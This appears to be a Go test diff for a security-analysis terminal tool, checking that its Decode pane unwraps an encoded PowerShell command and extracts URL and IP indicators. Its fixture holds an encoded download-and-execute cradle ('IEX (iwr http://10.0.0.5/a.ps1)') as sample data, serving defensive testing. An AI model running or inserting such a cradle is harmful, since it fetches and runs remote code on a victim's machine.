@@ -717,3 +717,68 @@ func TestOpenFailureIsShownAndRetried(t *testing.T) {
 		t.Errorf(":open did not reopen:\n%s", s)
 	}
 }
+
+// A cell sent with D is decoded off the UI loop and shown in the Decode pane;
+// an indicator sent on from there opens the query browser on the queries that
+// take it.
+func TestDecodeFlow(t *testing.T) {
+	m, _ := newShell(t, &fakeBackend{}, 120, 40)
+	payload := "powershell -enc " + base64.StdEncoding.EncodeToString(utf16le("IEX (iwr http://10.0.0.5/a.ps1)"))
+	_, cmd := m.Update(pane.DecodeText{Text: payload, Source: "SecurityEvent · CommandLine, row 3"})
+	if m.Focused() != pane.Decode {
+		t.Fatalf("focus %s after D", m.Focused())
+	}
+	var decoded *pane.Decoded
+	for _, msg := range collect(cmd) {
+		if td, ok := msg.(taskDone); ok {
+			if d, ok := td.msg.(pane.Decoded); ok {
+				decoded = &d
+			}
+		}
+		_, next := m.Update(msg)
+		settle(m, next)
+	}
+	if decoded == nil || decoded.Err != nil || len(decoded.Result.Items) != 1 {
+		t.Fatalf("decode answer %+v", decoded)
+	}
+	if it := decoded.Result.Items[0]; it.Decoded != "IEX (iwr http://10.0.0.5/a.ps1)" || it.Encoding != "base64>utf-16le" {
+		t.Errorf("item %+v", it)
+	}
+	var vals []string
+	for _, mt := range decoded.ItemIoCs[0] {
+		vals = append(vals, string(mt.Type)+" "+mt.Value)
+	}
+	if strings.Join(vals, "|") != "url http://10.0.0.5/a.ps1|ipv4 10.0.0.5" {
+		t.Errorf("item IoCs %q", vals)
+	}
+	if s := screen(m); !strings.Contains(s, "base64>utf-16le") || !strings.Contains(s, "SecurityEvent") {
+		t.Errorf("the Decode pane does not show the result:\n%s", s)
+	}
+	// A stale answer (an older request) is dropped.
+	old := *decoded
+	old.Seq--
+	old.Result = nil
+	if cmd := m.decoded(old); cmd != nil {
+		t.Errorf("a superseded answer was routed")
+	}
+	// Sending an address on opens the browser narrowed to the queries taking it.
+	_, cmd = m.Update(pane.UseValue{Type: "ipv4", Value: "10.0.0.5"})
+	settle(m, cmd)
+	if m.Focused() != pane.Queries || !strings.Contains(screen(m), "taking 10.0.0.5") {
+		t.Errorf("UseValue: focus %s\n%s", m.Focused(), screen(m))
+	}
+	// A type no query takes says so and stays put.
+	_, cmd = m.Update(pane.UseValue{Type: "sha256_hash", Value: strings.Repeat("a", 64)})
+	settle(m, cmd)
+	if !strings.Contains(screen(m), "no query in the library takes a sha256_hash") {
+		t.Errorf("no notice for an indicator no query takes:\n%s", screen(m))
+	}
+}
+
+func utf16le(s string) []byte {
+	var b []byte
+	for _, r := range s {
+		b = append(b, byte(r), byte(r>>8))
+	}
+	return b
+}
